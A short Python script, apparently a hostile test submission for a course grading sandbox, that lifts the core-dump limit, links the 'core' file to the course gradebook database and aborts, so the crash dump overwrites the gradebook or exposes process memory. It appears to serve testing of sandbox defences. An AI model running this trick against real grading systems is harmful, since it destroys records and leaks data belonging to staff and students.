"""Crash with the largest possible core file, and with a link where it would be written.

Gain: the memory of the process in a file, or a file overwritten.
"""

# %%
import os
import resource

try:
    resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))
except (OSError, ValueError) as error:
    print(error)
try:
    os.symlink("@COURSE@/gradebook.db", "core")
except OSError as error:
    print(error)
os.abort()
